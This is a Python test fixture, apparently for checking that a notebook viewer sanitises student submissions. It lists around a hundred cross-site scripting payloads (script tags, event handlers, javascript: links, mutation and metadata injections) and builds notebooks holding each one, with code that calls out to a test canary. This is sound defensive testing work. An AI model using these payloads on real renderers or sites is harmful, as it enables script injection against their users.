"""What a student could write or print so that it runs in the browser of whoever opens it.

Each attack is (name, where, payload). where: "markdown", "raw", a type of output, "output" (the whole output), "stdout", "error", "attachment",
"notebook" or "cell" (metadata). In a payload @JS@ is code that tells the canary, @URL@ an address of the canary's, @JS64@ and @SVG64@ a page and
a drawing with the code in them, in base64. What clicks and hovers start is started by the test, which clicks and hovers.
"""

import base64
import copy

import nbformat

ALL = [
    ("script_tag", "markdown", "<script>@JS@</script>"),
    ("script_src", "markdown", '<script src="@URL@.js"></script>'),
    ("script_module", "markdown", '<script type="module">@JS@</script>'),
    ("script_upper", "markdown", "<ScRiPt >@JS@</sCrIpT >"),
    ("script_in_table", "markdown", "<table><tr><td><script>@JS@</script></td></tr></table>"),
    ("script_in_details", "markdown", "<details><summary>a</summary>\n\n<script>@JS@</script>\n\n</details>"),
    ("alert_box", "markdown", "<script>alert('alert_box')</script>"),
    ("img_onerror", "markdown", '<img src="x:" onerror="@JS@">'),
    ("img_unquoted", "text/html", "<img src=x: onerror=@JS@>"),
    ("img_slashes", "text/html", '<img/src="x:"/onerror="@JS@"/>'),
    ("img_in_heading", "markdown", '# A heading <img src="x:" onerror="@JS@">'),
    ("img_in_cell", "markdown", '| a |\n|---|\n| <img src="x:" onerror="@JS@"> |'),
    ("img_in_link", "markdown", '[<img src="x:" onerror="@JS@">](https://example.org)'),
    ("img_in_quote", "markdown", '> a quotation\n> <img src="x:" onerror="@JS@">'),
    ("img_after_code", "markdown", '`code` and ``<img src="x:"`` <img src="x:" onerror="@JS@">'),
    ("svg_onload", "markdown", '<svg onload="@JS@"></svg>'),
    ("svg_script", "markdown", "<svg><script>@JS@</script></svg>"),
    ("svg_animate", "text/html", '<svg width="90" height="30"><a><animate attributeName="href" values="javascript:@JS@"/><text y="20">click</text></a></svg>'),
    ("iframe_srcdoc", "markdown", '<iframe srcdoc="<script>@JS@</script>"></iframe>'),
    ("iframe_javascript", "markdown", '<iframe src="javascript:@JS@"></iframe>'),
    ("iframe_elsewhere", "markdown", '<iframe src="@URL@.html"></iframe>'),
    ("details_ontoggle", "markdown", '<details open ontoggle="@JS@"><summary>a</summary>b</details>'),
    ("input_autofocus", "markdown", '<input autofocus onfocus="@JS@">'),
    ("select_autofocus", "markdown", '<select autofocus onfocus="@JS@"></select>'),
    ("video_onerror", "markdown", '<video><source src="x:" onerror="@JS@"></video>'),
    ("audio_onerror", "markdown", '<audio src="x:" onerror="@JS@"></audio>'),
    ("object_data", "markdown", '<object data="data:text/html;base64,@JS64@"></object>'),
    ("embed_svg", "markdown", '<embed type="image/svg+xml" src="data:image/svg+xml;base64,@SVG64@">'),
    ("style_onload", "markdown", '<style onload="@JS@"></style>'),
    ("style_animation", "markdown", '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="@JS@">b</b>'),
    ("style_import", "markdown", '<style>@import url("@URL@.css");</style>'),
    ("style_url", "markdown", '<div style="background:url(@URL@.png)">a</div>'),
    ("style_escaped", "markdown", '<div style="background:\\75 rl(@URL@.png)">a</div>'),
    ("link_stylesheet", "markdown", '<link rel="stylesheet" href="@URL@.css">'),
    ("image_elsewhere", "markdown", "![a](@URL@.png)"),
    ("image_reference", "markdown", "![a][there]\n\n[there]: @URL@.png"),
    ("image_html", "markdown", '<img src="@URL@.png" alt="a">'),
    ("image_srcset", "markdown", '<img srcset="@URL@.png 1x" alt="a">'),
    ("base_href", "markdown", '<base href="@URL@/"><img src="picture_of_base.png">'),
    ("meta_refresh", "markdown", '<meta http-equiv="refresh" content="0;url=@URL@.html">'),
    ("mouse_over", "markdown", '<p onmouseover="@JS@">hover</p>'),
    ("link_javascript", "markdown", "[click](<javascript:@JS@>)"),
    ("link_reference", "markdown", "[click][there]\n\n[there]: <javascript:@JS@>"),
    ("link_automatic", "markdown", "<javascript:@JS@>"),
    ("link_entity", "markdown", '<a href="jav&#x09;ascript:@JS@">click</a>'),
    ("link_colon", "markdown", '<a href="javascript&colon;@JS@">click</a>'),
    ("link_control", "markdown", '<a href="&#1;javascript:@JS@">click</a>'),
    ("link_files", "markdown", '<a href="files/javascript:@JS@">click</a>'),
    ("link_files_twice", "markdown", "[click](<files/javascript:@JS@>)"),
    ("form_action", "markdown", '<form action="javascript:@JS@"><button>click</button></form>'),
    ("form_elsewhere", "markdown", '<form action="@URL@.html"><button>click</button></form>'),
    ("form_formaction", "markdown", '<form><button formaction="javascript:@JS@">click</button></form>'),
    ("mermaid_fence", "markdown", '```mermaid\n<img src="x:" onerror="@JS@">\n```'),
    ("tooltip", "markdown", '<a data-toggle="tooltip" data-html="true" title="<img src=x: onerror=@JS@>">hover</a>'),
    ("mutation_math", "text/html", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=@JS@&gt;"></table></mtext></math>'),
    ("mutation_form", "text/html", "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=@JS@>"),
    ("mutation_noscript", "text/html", '<noscript><p title="</noscript><img src=x: onerror=@JS@>"></noscript>'),
    ("mutation_xmp", "text/html", '<xmp><p title="</xmp><img src=x: onerror=@JS@>"></xmp>'),
    ("mutation_comment", "markdown", "<!--><img src=x: onerror=@JS@>-->"),
    ("mutation_bang", "markdown", "<!--a--!><img src=x: onerror=@JS@>-->"),
    ("mutation_cdata", "text/html", "<svg><![CDATA[><img src=x: onerror=@JS@>]]></svg>"),
    ("mutation_question", "markdown", "<?a ><img src=x: onerror=@JS@>?>"),
    ("mutation_textarea", "text/html", '<textarea><p title="</textarea><img src=x: onerror=@JS@>"></textarea>'),
    ("mutation_title", "markdown", "</title></textarea></style></pre></div><script>@JS@</script>"),
    ("mathjax_config", "markdown", '<script type="text/x-mathjax-config">@JS@</script>'),
    ("mathjax_href", "markdown", "$\\href{javascript:@JS@}{click}$"),
    ("fence_info", "markdown", '```"><img/src="x:"/onerror="@JS@">\ncode\n```'),
    ("raw_script", "raw", "<script>@JS@</script>"),
    ("raw_image", "raw", '<img src="x:" onerror="@JS@">'),
    ("html_script", "text/html", "<script>@JS@</script>"),
    ("html_onerror", "text/html", '<b>bold</b><img src="x:" onerror="@JS@">'),
    ("html_iframe", "text/html", '<iframe srcdoc="<script>@JS@</script>"></iframe>'),
    ("html_picture", "text/html", '<img src="@URL@.png">'),
    ("html_plotly", "text/html", '<div id="p" class="plotly-graph-div"></div><script type="text/javascript">window.PlotlyConfig={};@JS@</script>'),
    ("html_isolated", "output", {"data": {"text/html": "<script>@JS@</script>"}, "metadata": {"text/html": {"isolated": True}}}),
    ("javascript", "application/javascript", "@JS@"),
    ("svg_output", "image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg" onload="@JS@"><script>@JS@</script></svg>'),
    ("markdown_output", "text/markdown", "# text\n\n<script>@JS@</script>"),
    ("mermaid_output", "text/vnd.mermaid", '<img src="x:" onerror="@JS@">'),
    ("latex_output", "text/latex", "$\\href{javascript:@JS@}{click}$ <img src='x:' onerror=\"@JS@\">"),
    ("bokeh", "output", {"data": {"application/javascript": "@JS@", "application/vnd.bokehjs_exec.v0+json": ""}, "metadata": {}}),
    ("widget_view", "application/vnd.jupyter.widget-view+json", {"model_id": "</script><script>@JS@</script>", "version_major": 2, "version_minor": 0}),
    ("png_breakout", "image/png", 'x" onerror="@JS@'),
    ("png_width", "output", {"data": {"image/png": "AAAA"}, "metadata": {"image/png": {"width": "1 onerror=@JS@"}}}),
    ("png_top_width", "output", {"data": {"image/png": "AAAA"}, "metadata": {"width": "1 onerror=@JS@"}}),
    ("jpeg_height", "output", {"data": {"image/jpeg": "AAAA"}, "metadata": {"image/jpeg": {"height": "1 onerror=@JS@"}}}),
    ("png_filename", "output", {"data": {"image/png": "AAAA"}, "metadata": {"filenames": {"image/png": "@URL@.png"}}}),
    ("stream_html", "stdout", "\x1b[31m<script>@JS@</script>\x1b[0m"),
    ("stream_colour", "stdout", '\x1b[38;2;1;2;"onmouseover="@JS@m<img src=x: onerror=@JS@>'),
    ("error_html", "error", "<img src=x: onerror=@JS@>"),
    ("attachment_type", "attachment", {'image/png" onerror="@JS@': "AAAA"}),
    ("attachment_page", "attachment", {"text/html": "@JS64@"}),
    ("title", "notebook", {"title": "</title><script>@JS@</script>"}),
    ("language", "notebook", {"language_info": {"name": 'python"><script>@JS@</script>'}}),
    ("lexer", "notebook", {"language_info": {"name": "python", "pygments_lexer": '"><script>@JS@</script>'}}),
    ("kernel_name", "notebook", {"kernelspec": {"name": "python3", "language": "python", "display_name": "<script>@JS@</script>"}}),
    (
        "widget_state",
        "notebook",
        {"widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a": "</script><script>@JS@</script>"}, "version_major": 2}}},
    ),
    ("cell_tags", "cell", {"tags": ['"><script>@JS@</script>']}),
    ("cell_alt", "cell", {"alt": '"><script>@JS@</script>', "magics_language": '"><script>@JS@</script>'}),
]


def filled(payload, name, canary):
    """The payload with its code and addresses."""
    if isinstance(payload, dict):
        return {filled(key, name, canary): filled(value, name, canary) for key, value in payload.items()}
    if isinstance(payload, list):
        return [filled(value, name, canary) for value in payload]
    if not isinstance(payload, str):
        return payload
    code = f"(self.said=self.said||[]).push('{name}');fetch('{canary}/{name}.js')"
    code64 = base64.b64encode(f"<script>{code}</script>".encode()).decode()
    svg64 = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg"><script>{code}</script></svg>'.encode()).decode()
    for token, text in (("@JS@", code), ("@URL@", f"{canary}/{name}"), ("@JS64@", code64), ("@SVG64@", svg64)):
        payload = payload.replace(token, text)
    return payload


def cells(attack, canary):
    """The cells of an attack, as they are handed in: what it prints is still code."""
    name, where, payload = attack
    payload, mark = filled(payload, name, canary), nbformat.v4.new_markdown_cell(f"This is {name}.")
    if where == "markdown":
        return [mark, nbformat.v4.new_markdown_cell(payload)]
    if where == "raw":
        return [mark, nbformat.v4.new_raw_cell(payload)]
    if where == "attachment":
        return [mark, nbformat.v4.new_markdown_cell("![a](attachment:a.png)", attachments={"a.png": payload})]
    if where == "cell":
        return [mark, nbformat.v4.new_code_cell("1", metadata=payload)]
    return [mark] if where == "notebook" else [mark, nbformat.v4.new_code_cell(_code(where, payload))]


def _code(where, payload):
    if where == "stdout":
        return f"print({payload!r})"
    if where == "error":
        return f"raise type({payload!r}, (Exception,), {{}})({payload!r})"
    data, metadata = (payload["data"], payload["metadata"]) if where == "output" else ({where: payload}, {})
    return f"from IPython.display import publish_display_data\npublish_display_data({data!r}, {metadata!r})"


def as_run(attack, canary):
    """A notebook with one attack, as it would be if it had been run and nobody had cleaned it."""
    name, where, payload = attack
    payload, found = filled(payload, name, canary), cells(attack, canary)
    if where == "stdout":
        found[1].outputs = [nbformat.v4.new_output("stream", name="stdout", text=payload)]
    elif where == "error":
        found[1].outputs = [nbformat.v4.new_output("error", ename=payload, evalue=payload, traceback=[payload])]
    elif where not in ("markdown", "raw", "attachment", "cell", "notebook"):
        data, metadata = (payload["data"], payload["metadata"]) if where == "output" else ({where: payload}, {})
        found[1].outputs = [nbformat.v4.new_output("display_data", data, metadata=metadata)]
    return nbformat.v4.new_notebook(cells=found, metadata=payload if where == "notebook" else {})


def handed_in(notebook, attacks, canary):
    """A notebook as plain data with these attacks before its last cell."""
    notebook = copy.deepcopy(notebook)
    for attack in attacks:
        if attack[1] == "notebook":
            notebook["metadata"].update(filled(attack[2], attack[0], canary))
        notebook["cells"][-1:-1] = cells(attack, canary)
    return notebook
